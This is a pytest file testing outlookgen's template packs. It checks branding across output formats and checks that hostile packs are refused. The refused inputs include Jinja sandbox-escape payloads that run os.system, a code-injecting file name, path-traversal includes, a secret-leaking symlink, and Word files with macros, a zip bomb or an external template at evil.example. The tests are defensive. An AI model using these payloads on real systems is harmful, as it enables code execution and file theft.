"""Template packs: overrides that show in every format, resolution, and packs that try to escape."""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
import zipfile

import pytest
from conftest import ROOT, SAMPLES
from docx import Document

BI = SAMPLES / "bi-platform.en.yaml"
ERP = SAMPLES / "erp-manufacturing.zh-CN.yaml"
ACME = SAMPLES / "packs" / "acme"
MINIMAL = ROOT / "tests" / "specs" / "valid" / "minimal.yaml"


def docx_text(path) -> str:
    document = Document(str(path))
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            parts.extend(cell.text for cell in row.cells)
    return "\n".join(parts)


def build(cli, spec, out, *args):
    code, _, err = cli("build", spec, "-f", "md,html,docx", "-o", out, "-q", *args)
    assert code == 0, err
    stem = spec.name.removesuffix(".yaml")
    return (
        (out / f"{stem}.md").read_text(encoding="utf-8"),
        (out / f"{stem}.html").read_text(encoding="utf-8"),
        out / f"{stem}.docx",
    )


# --------------------------------------------------------------------------- overrides that show


def test_firm_pack_changes_show_in_all_three_formats(tmp_path, cli):
    md, html, docx_path = build(cli, BI, tmp_path, "-t", ACME)
    text = docx_text(docx_path)
    # the cover is Acme's
    assert "Prepared for **Northwind Retail Group**" in md
    assert 'class="cover acme-cover"' in html and "Prepared for Northwind Retail Group" in html
    assert "Prepared for Northwind Retail Group" in text
    # one label changed everywhere
    assert "Acme engagement team: Dana Whitfield" in md
    assert "Acme engagement team" in html and "Acme engagement team" in text
    # an added section, after step 5
    for output in (md, html, text):
        assert output.index("About Acme Consulting") > output.index("Long-term evolution")
    # colours: CSS custom properties and Word shading
    assert "--og-primary: #2b2d42;" in html and "--og-accent: #c8102e;" in html
    with zipfile.ZipFile(docx_path) as archive:
        assert 'w:fill="2B2D42"' in archive.read("word/document.xml").decode("utf-8").upper().replace(
            "W:FILL", "w:fill"
        )
        assert any(name.startswith("word/media/") for name in archive.namelist()), "the logo is in the Word file"
    assert 'class="cover-logo" src="data:image/png;base64,' in html  # the large logo, embedded
    assert 'class="footer-logo" src="data:image/png;base64,' in html  # the small one


def test_firm_pack_in_chinese(tmp_path, cli):
    md, html, docx_path = build(cli, ERP, tmp_path, "-t", ACME)
    assert "艾克米项目团队" in md and "艾克米项目团队" in html and "艾克米项目团队" in docx_text(docx_path)
    assert "## 关于艾克米咨询" in md


def test_executive_pack_is_visibly_different(tmp_path, cli):
    md, html, docx_path = build(cli, BI, tmp_path, "-t", "executive")
    assert "Northwind Retail Group · Version 2.0 · Approved · 15 July 2026" in md
    assert 'class="cover exec-cover"' in html
    assert "--og-primary: #123c32;" in html
    assert "--og-font-heading-brand:" in html
    with zipfile.ZipFile(docx_path) as archive:
        styles = archive.read("word/styles.xml").decode("utf-8")
    assert 'w:ascii="Georgia"' in styles and 'w:eastAsia="宋体"' in styles
    assert "Engagement team" in docx_text(docx_path)


def test_scaffolded_pack_checks_clean_and_its_examples_show(tmp_path, cli):
    folder = tmp_path / "firm"
    code, _, err = cli("templates", "new", folder)
    assert code == 0, err
    assert (folder / "pack.yaml").is_file()
    code, _, err = cli("templates", "check", folder)
    assert code == 0 and "A11Y101" not in err, err  # its colours pass WCAG contrast
    md, html, docx_path = build(cli, BI, tmp_path / "out", "-t", folder)
    assert "*Prepared with the firm's implementation method.*" in md
    assert md.startswith("# Northwind Retail BI Platform")  # super() kept the default cover
    for output in (md, html, docx_text(docx_path)):
        assert "About us" in output
        assert "Engagement team" in output
    assert "--og-accent: #896e1b;" in html


def test_scaffold_refuses_a_used_folder_and_a_bad_name(tmp_path, cli):
    (tmp_path / "used").mkdir()
    (tmp_path / "used" / "x").write_text("", encoding="utf-8")
    assert cli("templates", "new", tmp_path / "used")[0] == 1
    code, _, err = cli("templates", "new", tmp_path / "Bad Name")
    assert code == 1 and "lower-case" in err


def test_templates_list_shows_origin_and_parent(cli):
    code, out, _ = cli("templates", "list")
    assert code == 0
    rows = {line.split()[0]: line.split() for line in out.splitlines()[1:]}
    assert rows["default"][1:4] == ["1.0", "built-in", "-"]
    assert rows["executive"][1:4] == ["1.0", "built-in", "default"]


def test_unknown_pack_names_the_known_ones(cli):
    code, _, err = cli("build", BI, "-t", "nonesuch")
    assert code == 1
    assert "template pack 'nonesuch' not found" in err and "default" in err and "executive" in err


def test_a_pack_installed_as_a_python_package_is_found_by_name(tmp_path):
    site = tmp_path / "site"
    package = site / "acme_outlook_pack"
    shutil.copytree(ACME, package)
    (package / "__init__.py").write_text("", encoding="utf-8")
    dist = site / "acme_outlook_pack-2.3.0.dist-info"
    dist.mkdir()
    (dist / "METADATA").write_text("Metadata-Version: 2.1\nName: acme-outlook-pack\nVersion: 2.3.0\n", encoding="utf-8")
    (dist / "entry_points.txt").write_text("[outlookgen.packs]\nacme = acme_outlook_pack\n", encoding="utf-8")
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(site), str(ROOT)]))
    listing = subprocess.run(
        [sys.executable, "-m", "outlookgen", "templates", "list"], capture_output=True, text=True, env=env, check=True
    )
    [row] = [line.split() for line in listing.stdout.splitlines() if line.startswith("acme ")]
    assert row[1:5] == ["2.3.0", "entry", "point", "(acme-outlook-pack)"]
    built = subprocess.run(
        [sys.executable, "-m", "outlookgen", "build", str(BI), "-t", "acme", "-f", "md", "-o", str(tmp_path / "out")],
        capture_output=True,
        text=True,
        env=env,
    )
    assert built.returncode == 0, built.stderr
    assert "Prepared for **Northwind Retail Group**" in (tmp_path / "out" / "bi-platform.en.md").read_text(
        encoding="utf-8"
    )


# --------------------------------------------------------------------------- packs that try to escape


def make_pack(tmp_path, md_template: str, name="evil"):
    folder = tmp_path / name
    (folder / "md").mkdir(parents=True)
    (folder / "pack.yaml").write_text(f"name: {name}\nextends: default\n", encoding="utf-8")
    (folder / "md" / "outlook.md.j2").write_text(md_template, encoding="utf-8")
    return folder


SANDBOX_ESCAPES = {
    # CVE-2024-56326: calling str.format through a stored reference
    "stored-format": '{% set f = "{0.__class__.__init__.__globals__}".format %}{{ f(meta) }}',
    # CVE-2025-27516: reaching str.format through the |attr filter
    "attr-format": '{% set f = "{0.__class__.__mro__}" | attr("format") %}{{ f(meta) }}',
    "dunder-walk": "{{ meta.__class__.__mro__[1].__subclasses__() }}",
    "cycler-globals": "{{ cycler.__init__.__globals__.os.system('touch SENTINEL') }}",
    "lipsum-globals": "{{ lipsum.__globals__['os'].system('touch SENTINEL') }}",
}


@pytest.mark.parametrize("payload", sorted(SANDBOX_ESCAPES))
def test_sandbox_escapes_fail_cleanly(tmp_path, cli, payload):
    pack = make_pack(tmp_path, SANDBOX_ESCAPES[payload].replace("SENTINEL", str(tmp_path / "sentinel")))
    code, _, err = cli("build", MINIMAL, "-f", "md", "-t", pack, "-o", tmp_path / "out")
    assert code == 1
    assert err.startswith(f"{pack}/md/outlook.md.j2:1:1: error: $: ")
    assert "Traceback" not in err
    assert not (tmp_path / "sentinel").exists()
    assert not (tmp_path / "out").exists()


def test_a_template_file_name_cannot_inject_code(tmp_path, cli):
    # CVE-2024-56201: Jinja < 3.1.5 put template file names into generated code.
    pack = make_pack(tmp_path, "")
    evil_name = "x'+__import__('os').mkdir('sentinel')+'.j2"
    (pack / "md" / evil_name).write_text("hello", encoding="utf-8")
    (pack / "md" / "outlook.md.j2").write_text('{% include "' + evil_name + '" %}', encoding="utf-8")
    code, _, _ = cli("build", MINIMAL, "-f", "md", "-t", pack, "-o", tmp_path / "out", cwd=tmp_path)
    assert code == 0
    assert not (tmp_path / "sentinel").exists()
    assert (tmp_path / "out" / "minimal.md").read_text(encoding="utf-8") == "hello\n"


@pytest.mark.parametrize(
    "include",
    ["../../../../../../etc/hostname", "/etc/hostname", r"..\\..\\pack.yaml", "default:../pack.yaml"],
)
def test_includes_stay_inside_the_pack_chain(tmp_path, cli, include):
    pack = make_pack(tmp_path, '{% include "' + include + '" %}')
    code, _, err = cli("build", MINIMAL, "-f", "md", "-t", pack, "-o", tmp_path / "out")
    assert code == 1
    assert "Traceback" not in err
    assert "has no template" in err or "error" in err


def test_a_symlink_out_of_the_pack_is_refused(tmp_path, cli):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET", encoding="utf-8")
    pack = make_pack(tmp_path, '{% include "leak.j2" %}')
    os.symlink(secret, pack / "md" / "leak.j2")
    code, _, err = cli("build", MINIMAL, "-f", "md", "-t", pack, "-o", tmp_path / "out")
    assert code == 1
    assert "outside the pack folder" in err
    assert not (tmp_path / "out").exists()
    code, _, err = cli("templates", "check", pack)
    assert code == 1 and "outside the pack" in err


def test_runaway_recursion_is_a_located_error(tmp_path, cli):
    pack = make_pack(tmp_path, "{% macro again(n) %}{{ again(n + 1) }}{% endmacro %}\n{{ again(1) }}")
    code, _, err = cli("build", MINIMAL, "-f", "md", "-t", pack, "-o", tmp_path / "out")
    assert code == 1
    assert err.startswith(f"{pack}/md/outlook.md.j2:1:1: error: $: while rendering: the template recurses too deeply")


def test_a_template_that_runs_too_long_is_stopped(tmp_path, cli, monkeypatch):
    monkeypatch.setenv("OUTLOOKGEN_RENDER_TIMEOUT", "1")
    pack = make_pack(
        tmp_path, "line one\n{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    )
    code, _, err = cli("build", MINIMAL, "-f", "md", "-t", pack, "-o", tmp_path / "out")
    assert code == 1
    assert err.startswith(f"{pack}/md/outlook.md.j2:2:1: error: $: while rendering: rendering took longer than 1 s")


def test_output_past_the_cap_is_stopped(tmp_path, cli, monkeypatch):
    from outlookgen.packs import environment

    monkeypatch.setattr(environment, "MAX_OUTPUT_CHARS", 10_000)
    pack = make_pack(tmp_path, "{% for i in range(100000) %}{{ 'x' * 50 }}{% endfor %}")
    code, _, err = cli("build", MINIMAL, "-f", "md", "-t", pack, "-o", tmp_path / "out")
    assert code == 1
    assert "a template is looping" in err


def test_template_errors_name_pack_file_and_line(tmp_path, cli):
    pack = make_pack(
        tmp_path, '{% extends "default:outlook.md.j2" %}\n{% block cover %}\n{{ meta.titel }}\n{% endblock %}'
    )
    code, _, err = cli("build", MINIMAL, "-f", "md", "-t", pack, "-o", tmp_path / "out")
    assert code == 1
    assert err.startswith(f"{pack}/md/outlook.md.j2:3:1: error: $: while rendering: ")
    assert "titel" in err


def test_template_errors_name_the_file_the_user_can_open_not_the_pack_name(tmp_path, cli):
    # Issue 15: a pack named "acme" in a folder called firm-templates/ was named
    # acme/md/outlook.md.j2, a path that does not exist.
    pack = make_pack(tmp_path, "line one\n{{ meta.titel }}\n", name="acme")
    pack = pack.rename(tmp_path / "firm-templates")
    (tmp_path / "work").mkdir()
    code, _, err = cli("build", MINIMAL, "-f", "md", "-t", pack, "-o", tmp_path / "out", cwd=tmp_path)
    assert code == 1
    assert err.startswith("firm-templates/md/outlook.md.j2:2:1: error: $: while rendering: "), err
    assert (tmp_path / "firm-templates/md/outlook.md.j2").is_file()
    # outside the working folder: the absolute path
    code, _, err = cli("build", MINIMAL, "-f", "md", "-t", pack, "-o", tmp_path / "out", cwd=tmp_path / "work")
    assert err.startswith(f"{pack}/md/outlook.md.j2:2:1: error: "), err
    # a bad brand in pack.yaml names that file too
    (pack / "md" / "outlook.md.j2").unlink()
    (pack / "pack.yaml").write_text("name: acme\nextends: default\nbrand: {color: red}\n", encoding="utf-8")
    code, _, err = cli("build", MINIMAL, "-f", "html", "-t", pack, "-o", tmp_path / "out", cwd=tmp_path)
    assert code == 1
    assert err.startswith("firm-templates/pack.yaml:1:1: error: brand.color: "), err


# --------------------------------------------------------------------------- reference.docx from someone else


def docx_pack(tmp_path, payload: bytes):
    folder = tmp_path / "wordy"
    (folder / "docx").mkdir(parents=True)
    (folder / "pack.yaml").write_text("name: wordy\nextends: default\n", encoding="utf-8")
    (folder / "docx" / "reference.docx").write_bytes(payload)
    return folder


def rezip(transform) -> bytes:
    source = ROOT / "templates" / "default" / "docx" / "reference.docx"
    out = io.BytesIO()
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = transform(item.filename, src.read(item.filename))
            if data is not None:
                dst.writestr(item.filename, data)
        extra = transform("__extra__", b"")
        if extra:
            dst.writestr(extra[0], extra[1])
    return out.getvalue()


REFERENCES = {
    "not-a-docx": (lambda: b"this is a text file", "not a Word document"),
    "macros": (
        lambda: rezip(
            lambda name, data: (
                ("word/vbaProject.bin", b"\0" * 10) if name == "__extra__" else (None if name == "__extra__" else data)
            )
        ),
        "holds macros",
    ),
    "external-link": (
        lambda: rezip(
            lambda name, data: (
                None
                if name == "__extra__"
                else data.replace(b"<Relationships", b"<Relationships", 1).replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/evil.dotm" TargetMode="External"/></Relationships>',
                )
                if name == "word/_rels/document.xml.rels"
                else data
            )
        ),
        'TargetMode="External"',
    ),
    "zip-bomb": (
        lambda: rezip(
            lambda name, data: ("word/media/bomb.bin", b"\0" * (120 * 1024 * 1024)) if name == "__extra__" else data
        ),
        "unpacks to",
    ),
}


@pytest.mark.parametrize("case", sorted(REFERENCES))
def test_a_bad_reference_docx_is_refused(tmp_path, cli, case):
    make, expected = REFERENCES[case]
    pack = docx_pack(tmp_path, make())
    code, _, err = cli("build", MINIMAL, "-f", "docx", "-t", pack, "-o", tmp_path / "out")
    assert code == 1
    # located at the part (and the element in it) that is refused, by a path the user can open
    assert re.match(re.escape(str(pack / "docx" / "reference.docx")) + r":\d+:\d+: error: \S+: refused: ", err), err
    assert expected in err
    assert not (tmp_path / "out").exists()
    code, _, err = cli("templates", "check", pack)
    assert code == 1 and expected in err


# --------------------------------------------------------------------------- templates check


def test_check_reports_every_kind_of_problem(tmp_path, cli):
    pack = make_pack(
        tmp_path, '{% extends "default:outlook.md.j2" %}\n{% block covr %}x{% endblock %}\n', name="sloppy"
    )
    (pack / "html").mkdir()
    (pack / "html" / "outlook.html.j2").write_text("{% if %}", encoding="utf-8")
    (pack / "labels").mkdir()
    (pack / "labels" / "en.yaml").write_text("cover:\n  prepared_bi: Team\n", encoding="utf-8")
    (pack / "pack.yaml").write_text(
        "name: sloppy\nextends: default\nbrand:\n  logo: images/missing.png\nversoin: 1\n", encoding="utf-8"
    )
    stripped = rezip(
        lambda name, data: (
            None
            if name == "__extra__"
            else data.replace(b'w:styleId="GanttTable"', b'w:styleId="Renamed"').replace(
                b'w:val="Gantt Table"', b'w:val="Renamed"'
            )
        )
    )
    (pack / "docx").mkdir()
    (pack / "docx" / "reference.docx").write_bytes(stripped)
    code, _, err = cli("templates", "check", pack)
    assert code == 1
    assert "unknown key 'versoin' (did you mean 'version'?)" in err
    assert "brand.logo" in err
    assert "label 'cover.prepared_bi' is not a label outlookgen uses (did you mean 'prepared_by'?)" in err
    assert (
        f"{pack}/md/outlook.md.j2:2:1: error: $: block 'covr' does not exist in 'default:outlook.md.j2' (did you mean 'cover'?)"
        in err
    )
    assert f"{pack}/html/outlook.html.j2:1:1: error: $: template syntax:" in err
    # A missing writer style is not a mistake any more: it is derived from the file's own styles, and said.
    assert (
        "note: word/styles.xml: the Word writer adds table style 'Gantt Table', derived from the file's own "
        "Normal and Heading styles" in err
    )


def test_check_passes_the_built_in_and_sample_packs(cli):
    for pack in ("default", "executive", str(ACME), str(ACME.parent / "northstar")):
        code, out, err = cli("templates", "check", pack)
        assert code == 0, err
        assert out.endswith("no problems found\n")


def test_every_format_has_the_same_outline_of_blocks():
    """One outline in Markdown, HTML and Word: a pack overrides a section under one name in each format."""
    import re

    outlines = {}
    for fmt in ("md", "html", "docx"):
        text = (ROOT / "templates" / "default" / fmt / f"outlook.{fmt}.j2").read_text(encoding="utf-8")
        outlines[fmt] = [b for b in re.findall(r"{%-?\s*block\s+(\w+)", text) if b not in ("styles", "footer")]
    assert outlines["md"] == outlines["html"] == outlines["docx"], outlines
    assert outlines["md"][:5] == ["cover", "revisions", "toc", "status", "changes"]


def test_appendices_are_lettered_past_z_without_wrapping():
    from outlookgen.render.context import appendix_letter

    assert [appendix_letter(i) for i in (0, 1, 25, 26, 27, 51, 52, 701, 702)] == [
        "A",
        "B",
        "Z",
        "AA",
        "AB",
        "AZ",
        "BA",
        "ZZ",
        "AAA",
    ]
